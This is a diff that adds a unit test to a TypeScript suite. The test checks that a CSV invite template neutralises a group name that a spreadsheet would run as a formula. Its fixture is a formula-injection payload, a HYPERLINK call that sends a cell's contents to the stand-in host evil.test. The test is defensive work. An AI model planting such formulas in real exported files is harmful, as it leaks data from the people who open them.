@@ -196,4 +196,14 @@ describe('template', () => {
     expect(rows.every((r) => r.errors.length === 0)).toBe(true);
     expect(rows[0]!.body?.groupId).toBe(7);
   });
+
+  it('neutralises a group name a spreadsheet would run as a formula, and reads it back as the group', () => {
+    // A manager may name a group anything; the template puts the first group's name in a cell.
+    const name = '=HYPERLINK("https://evil.test/?leak="&A2,"Open")';
+    const text = inviteTemplateCsv(name);
+    const cell = Papa.parse<string[]>(text).data[1]![4]!;
+    expect(cell).toBe(`'${name}`);
+    const rows = readInviteCsv(text, [{ id: 9, name }]);
+    expect('rows' in rows && rows.rows[0]!.body?.groupId).toBe(9);
+  });
 });
